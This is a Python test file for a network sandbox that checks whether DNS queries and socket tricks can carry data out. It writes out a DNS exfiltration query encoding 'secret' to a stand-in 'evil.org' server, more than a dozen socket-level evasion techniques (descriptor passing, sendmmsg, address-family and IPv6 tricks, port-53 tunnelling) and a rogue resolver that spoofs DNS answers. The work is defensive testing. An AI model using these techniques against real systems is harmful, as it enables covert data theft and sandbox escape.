"""Attacks on a session's answers: nothing gets out by a question or by the sockets that carry it, and no address gets a name that nobody gave it.

The judge is outside: the names that the machine's server was asked for, the servers that were reached, and what arrives where a name stands for an address.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import socket
import subprocess
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from interlock.ledger import reader
from tests.kernel.drive import Drive, Message, grant, policy, rule
from tests.kernel.test_host_names import (
    CONNECT,
    FILES,
    HEAD,
    HOST,
    LOCAL,
    POLICY,
    PYTHON,
    RUN,
    SIGNAL,
    USERS,
    ZONE,
    run,
)
from tests.kernel.world import OTHER, PORT, PUBLIC, World, folder, in_world

pytestmark = pytest.mark.skipif(os.getuid() != 0, reason="needs root: makes a network of its own")
ASKS = rule("ask", "approve", ["net.connect", "net.send"], 60_000)
ASKING = policy(FILES, RUN, SIGNAL, LOCAL, HOST, ASKS)
OWN = policy(
    FILES,
    RUN,
    SIGNAL,
    rule("local", "allow", ["net.bind", "net.listen", "unix.connect"]),
    HOST,
    rule("inside", "allow", ["net.connect", "net.send"], to="inside"),
)
STANDING_IN = "198.19.0.1"
#: What each tries to bring out is this label, to a server that is not the session's.
LABEL = "c2VjcmV0"
STOLEN = (
    f"Q = bytes.fromhex('123401000001000000000000') + b'\\x08{LABEL}\\4evil\\3org\\0\\0\\1\\0\\1'\nS = '192.0.2.53'\n"
)
WAYS = {
    "a copy of the descriptor, made before": "s = sock(); t = s.dup(); s.sendto(Q, (S, 53)); t.sendto(Q, (S, 53)); t.recv(999)",
    "a fork": """
s = sock()
if os.fork() == 0:
    s.sendto(Q, (S, 53)); s.recv(999); os._exit(0)
os.wait(); s.sendto(Q, (S, 53)); s.recv(999)""",
    "a passed descriptor": """
one, two = socket.socketpair()
s = sock(); s.connect((S, 53))
socket.send_fds(one, [b'x'], [s.fileno()])
_, (number,), _, _ = socket.recv_fds(two, 1, 1)
os.write(number, Q); os.read(number, 999)""",
    "sendmmsg, the second of another place": """
class Part(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
class Head(ctypes.Structure):
    _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint), ('parts', ctypes.c_void_p), ('count', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t), ('flags', ctypes.c_int)]
class Entry(ctypes.Structure): _fields_ = [('head', Head), ('length', ctypes.c_uint)]
def entries(*places):
    made = (Entry * len(places))()
    for entry, place in zip(made, places):
        text, name = ctypes.create_string_buffer(Q, len(Q)), ctypes.create_string_buffer(struct.pack('=HH4s8x', 2, socket.htons(place[1]), socket.inet_aton(place[0])), 16)
        part = Part(ctypes.addressof(text), len(Q)); kept.extend((text, name, part))
        entry.head = Head(ctypes.addressof(name), 16, ctypes.addressof(part), 1, 0, 0, 0)
    return made
for places in (((S, 53), (S, 5353)), ((S, 5353), (S, 53)), (('203.0.113.7', 443), (S, 53))):
    s = sock(); made = entries(*places); libc.sendmmsg(s.fileno(), made, len(places), 0)""",
    "a family that is none": "s = sock(); libc.sendto(s.fileno(), Q, len(Q), 0, struct.pack('=HH4s8x', 0, socket.htons(53), socket.inet_aton(S)), 16)",
    "undone and done again": "s = sock(); s.connect((S, 53)); libc.connect(s.fileno(), bytes(16), 16); attempt(lambda: s.sendto(Q, (S, 5353))); attempt(lambda: s.connect((S, 5353))); attempt(lambda: s.send(Q))",
    "a stream, undone and led elsewhere": """
s = socket.create_connection((S, 53), 5); libc.connect(s.fileno(), bytes(16), 16)
attempt(lambda: s.connect(('203.0.113.8', 443))); attempt(lambda: s.send(Q))""",
    "opened fast": "s = socket.socket(); attempt(lambda: s.sendto(Q, 0x20000000, (S, 53))); s = socket.socket(); s.setsockopt(6, 30, 1); s.connect((S, 53)); attempt(lambda: s.send(len(Q).to_bytes(2) + Q))",
    "a tunnel by port 53 of another host": "s = socket.create_connection(('203.0.113.7', 53), 5); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n' * 9); s.settimeout(1); attempt(lambda: print(s.recv(99) or 'closed'))",
    "other transports": """
for kind, protocol in ((2, 136), (1, 262), (1, 132), (5, 132), (2, 1), (3, 1), (3, 17), (6, 33)):
    def act():
        s = socket.socket(2, kind, protocol); s.settimeout(1); s.connect((S, 53)); s.send(Q)
    attempt(act)""",
    "lent memory": "s = sock(); s.setsockopt(1, 60, 1); attempt(lambda: s.sendto(Q, 0x4000000, (S, 53)))",
    "control data that says from where": "s = sock(); attempt(lambda: s.sendmsg([Q], [(0, 8, struct.pack('i4s4s', 1, socket.inet_aton(S), socket.inet_aton(S)))], 0, (S, 53)))",
    "mapped and with a zone": """
for address in ('::ffff:192.0.2.53', '::192.0.2.53', '64:ff9b::c000:235', 'fe80::1'):
    s = sock(socket.AF_INET6); attempt(lambda: s.sendto(Q, (address, 53, 0, 1)))""",
    "more labels of an address that is allowed": "attempt(lambda: socket.getaddrinfo('c2VjcmV0.api.example.com', 443)); attempt(lambda: socket.getaddrinfo('c2VjcmV0.db.example.internal', 443))",
    "the other network's devices": """
s = sock(); s.sendto(Q, (S, 53)); s.recv(999)
for request, data in ((0x8914, struct.pack('16sH14x', b'lo', 0)), (0x8916, struct.pack('16sHH4s8x', b'lo', 2, 0, socket.inet_aton(S))), (0x89a0, b'br0' + bytes(13)), (0x894c, bytes(16)), (0x89f1, bytes(40))):
    attempt(lambda: print(fcntl.ioctl(s, request, data) is not None and 'done'))
for level, option in ((0, 64), (0, 65), (0, 96), (0, 128), (0, 1154), (41, 64)):
    try: s.setsockopt(level, option, bytes(200)); print('done')
    except OSError as error: print('done' if error.errno != 92 else '')
    try: s.getsockopt(level, option, 200); print('done')
    except OSError as error: print('done' if error.errno != 92 else '')
print(fcntl.ioctl(s, 0x8913, struct.pack('16sH14x', b'lo', 0))[16] & 1 or 'done')""",
}


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("way", WAYS)
def test_no_way_of_sending_brings_a_label_out(way: str, user: int | None) -> None:
    head = (
        HEAD
        + "import ctypes, os\nlibc, kept = ctypes.CDLL(None, use_errno=True), []\ndef attempt(act):\n    try: act()\n    except OSError: pass\n"
    )

    def act(world: World) -> None:
        with _everything_that_arrives("192.0.2.53", "203.0.113.7") as arrived:
            said = run(head + STOLEN + WAYS[way], user=user)
            assert not [name for name in world.asked if LABEL.lower() in name] and not arrived()
        assert "done" not in said
        assert set(world.reached) <= {PUBLIC}

    in_world(act, ZONE)


@contextlib.contextmanager
def _everything_that_arrives(*addresses: str) -> Iterator[object]:
    """Servers at ports that nothing of the session may send to."""
    made = []
    for address in addresses:
        for port in (5353, 443):
            server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            server.bind((address, port))
            server.setblocking(False)
            made.append(server)

    def arrived() -> list[bytes]:
        found = []
        for server in made:
            with contextlib.suppress(BlockingIOError):
                found.append(server.recv(4096))
        return found

    yield arrived
    for server in made:
        server.close()


def test_an_answer_of_an_address_that_stands_for_a_name_gives_it_no_other() -> None:
    """An allowed name answers with the address that stands for a denied one, before and after it does."""
    zone = ZONE | {"early.example.com": [STANDING_IN], "late.example.com": [STANDING_IN]}

    def act(world: World) -> None:
        subprocess.run(["ip", "route", "add", "local", "198.19.0.0/16", "dev", "lo"], check=True)
        server = socket.create_server((STANDING_IN, PORT))
        server.setblocking(False)
        script = "print(reach('early.example.com'), reach('secret.evil.org'), reach('late.example.com'), reach('secret.evil.org'))"
        private = policy(FILES, RUN, SIGNAL, LOCAL, HOST)
        assert run(CONNECT + script, private) == "errno 13 errno 13 errno 13 errno 13\n"
        with pytest.raises(BlockingIOError):
            server.accept()

    in_world(act, zone)


def test_nothing_is_sent_to_an_address_that_stands_for_a_name_and_nobody_is_asked_about_it() -> None:
    script = (
        HEAD
        + f"""
s = sock()
try:
    found = socket.getaddrinfo('secret.evil.org', 443, socket.AF_INET)[0][4][0]
    print(found)
    s.sendto(b'secret', (found, {PORT}))
except OSError as error:
    print(error.errno)
s = sock(); s.connect((found, {PORT}))
try: s.send(b'secret')
except OSError as error: print(error.errno)
"""
    )

    def act(world: World) -> None:
        subprocess.run(["ip", "route", "add", "local", "198.19.0.0/16", "dev", "lo"], check=True)
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind((STANDING_IN, PORT))
        server.setblocking(False)
        assert _unasked(script, ASKING) == [STANDING_IN, "101", "32"]
        with pytest.raises(BlockingIOError):
            server.recv(99)
        assert not world.asked

    in_world(act, ZONE)


def test_nobody_is_asked_about_how_a_c_library_sorts_addresses() -> None:
    """A name with two addresses that a rule asks about: the C library connects datagram sockets to both, and sends nothing."""
    rules = rule("asked", "approve", ["net.connect", "net.send"], 60_000, host=["both.example.com"])

    def act(world: World) -> None:
        script = HEAD + "print(len(socket.getaddrinfo('both.example.com', 443, 0, socket.SOCK_STREAM)))"
        assert _unasked(script, policy(FILES, RUN, SIGNAL, LOCAL, rules)) == ["2"]
        assert not world.reached

    in_world(act, ZONE)


def _unasked(script: str, compiled: Message) -> list[str]:
    """What a session prints in which no question comes up."""
    with Drive([PYTHON, "-I", "-c", script], compiled) as drive:
        last = drive.until("question", "exited", "failed", timeout=60)
        assert last["type"] == "exited", last
        return drive._drain(drive.stdout).decode().split()


def test_a_server_of_names_of_the_sessions_own_is_asked_by_its_programs() -> None:
    script = (
        HEAD
        + """
import threading
def serve(server):
    while True:
        message, client = server.recvfrom(999); server.sendto(b'own' + message[:2], client)
def stream(server):
    while True:
        peer, _ = server.accept(); peer.sendall(b'own' + peer.recv(2)); peer.close()
server = sock(); server.bind(('127.0.0.9', 53)); server.settimeout(None)
streams = socket.create_server(('127.0.0.9', 53))
threading.Thread(target=serve, args=(server,), daemon=True).start()
threading.Thread(target=stream, args=(streams,), daemon=True).start()
s = sock(); s.sendto(Q, ('127.0.0.9', 53)); print(s.recvfrom(9))
s = sock(); s.connect(('127.0.0.9', 53)); s.send(Q); print(s.recv(9))
s = socket.create_connection(('127.0.0.9', 53), 5); s.sendall(Q); print(s.recv(9))
s = sock(); s.sendto(Q, ('127.0.0.10', 53)); print(len(s.recv(99)) > 30)
"""
    )

    def act(world: World) -> None:
        own = "b'own\\x124'"
        assert run(script, OWN).split("\n")[:4] == [f"({own}, ('127.0.0.9', 53))", own, own, "True"]
        assert world.asked == ["api.example.com"]

    in_world(act, ZONE)


#: It takes the place of the machine's own server of names, has names asked for there, and goes where it has said that they lead.
TAKER = """
import socket, struct, sys, threading
from contextlib import suppress
def serve(server):
    while True:
        message, client = server.recvfrom(999)
        record = b'\\xc0\\x0c' + struct.pack('>HHIH', 1, 1, 60, 4) + socket.inet_aton('203.0.113.8')
        server.sendto(message[:2] + bytes([0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]) + message[12 : message.index(0, 12) + 5] + record, client)
for family, place in ((socket.AF_INET, sys.argv[1]), (socket.AF_INET6, '::ffff:' + sys.argv[1]), (socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
    server = socket.socket(family, socket.SOCK_DGRAM)
    with suppress(OSError):
        server.bind((place, 53))
        threading.Thread(target=serve, args=(server,), daemon=True).start()
        break
asking, led = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.inet_aton('203.0.113.8')
asking.settimeout(9)
with suppress(OSError):
    asking.sendto(bytes.fromhex('123401000001000000000000') + b'\\3api\\7example\\3com\\0\\0\\1\\0\\1', (sys.argv[2], 53))
    led = asking.recv(999)[-4:]
peer = socket.socket()
with suppress(OSError):
    peer.connect((socket.inet_ntoa(led), 443))
    print(peer.recv(200).decode().rpartition('\\r\\n')[2])
"""


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize(("resolv", "place"), [("nameserver 127.0.0.9\noptions timeout:1\n", "127.0.0.9"), ("options timeout:1\n", "127.0.0.1")])
def test_no_session_answers_in_the_place_of_the_machines_own_server_of_names(resolv: str, place: str, user: int | None) -> None:
    """It is named, has an address of this machine, and is not there: systemd-resolved that is started anew, a container without any."""

    def act(world: World) -> None:
        Path("/proc/sys/net/ipv4/ip_unprivileged_port_start").write_text("0")
        here = rule("here", "allow", ["net.send"], address=["127.0.0.0/8"])
        compiled = policy(FILES, RUN, SIGNAL, rule("local", "allow", ["net.bind", "unix.connect"]), HOST, here)
        with Drive([PYTHON, "-I", "-c", TAKER, place, "192.0.2.77"], compiled, user=user) as drive:
            assert drive.finish(60)[1] == b""
        assert not world.reached
        # Outside of a session it is believed, by whoever asks there.
        subprocess.run([PYTHON, "-I", "-c", TAKER, place, place], check=True, user=user)
        assert world.reached == [OTHER]

    in_world(act, ZONE, resolv=resolv)


def test_a_socket_that_came_too_late_is_not_taken_for_a_later_one() -> None:
    """The helper is stopped for longer than it is waited for, and goes on."""
    script = (
        HEAD
        + """
import os, sys, time
def wait(name):
    while not os.path.exists(f'{sys.argv[1]}/{name}'): time.sleep(0.01)
wait('stopped')
one = sock()
try: one.sendto(Q, A)
except OSError as error: print(error.errno, flush=True)
wait('goes on')
kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_STREAM)
for kind in kinds:
    s = socket.socket(socket.AF_INET, kind); s.connect(A)
    print(s.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE) == kind, flush=True)
"""
    )

    def act(_: World) -> None:
        place = folder()
        with Drive([PYTHON, "-I", "-c", script, str(place)], POLICY) as drive:
            drive.until("started")
            own = Path("/proc/self/ns/net").readlink()
            children = Path(f"/proc/{drive.process.pid}/task/{drive.process.pid}/children").read_text().split()
            [helper] = [int(child) for child in children if Path(f"/proc/{child}/ns/net").readlink() != own]
            os.kill(helper, signal.SIGSTOP)
            (place / "stopped").touch()
            drive.until("denied")
            os.kill(helper, signal.SIGCONT)
            (place / "goes on").touch()
            _, out, err = drive.finish(60)
        shutil.rmtree(place)
        assert out.split() == [b"13", b"True", b"True", b"True"], err

    in_world(act, ZONE)


def test_where_a_name_led_after_a_yes_is_recorded_before_anybody_is_connected() -> None:
    def act(world: World) -> None:
        script = textwrap.dedent(CONNECT + "print(reach('asked.example.org', family=socket.AF_INET))")
        with Drive([PYTHON, "-I", "-c", script], ASKING) as drive:
            question = drive.until("question")
            drive.say({"type": "answer", "id": question["id"], "grant": grant(question, "yes"), "reason": None})
            _, out, _ = drive.finish(60)
            drive.until("ended")
        assert out.decode().strip() == OTHER
        logs = reader.sessions(drive.state)
        led = [
            each.event.document for log in logs for each in reader.entries(log.path) if each.event.type == "name.led"
        ]
        assert [(each["host"], each["address"], each["port"]) for each in led] == [("asked.example.org", OTHER, PORT)]

    in_world(act, ZONE | {"asked.example.org": [OTHER]})
